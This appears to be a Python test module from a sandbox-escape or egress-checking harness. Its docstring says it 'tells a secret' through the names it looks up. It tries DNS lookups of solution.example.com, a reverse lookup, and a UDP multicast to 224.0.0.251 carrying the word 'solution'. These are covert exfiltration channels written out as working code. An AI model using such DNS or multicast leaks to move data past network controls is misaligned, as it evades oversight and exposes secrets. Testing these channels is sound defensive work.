"""Tells a secret in the names that it looks up."""

import socket

from .arms import KNOWN, attempt

CLASSES = (1, 20)

attempt("an address", lambda: socket.getaddrinfo("solution.example.com", 80))
attempt("by name", lambda: socket.gethostbyname("solution.example.com"))
attempt("by address", lambda: socket.gethostbyaddr("8.8.8.8"))


def multicast():
    name = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return name.sendto(b"solution", ("224.0.0.251", KNOWN["udp"]))


attempt("multicast", multicast)
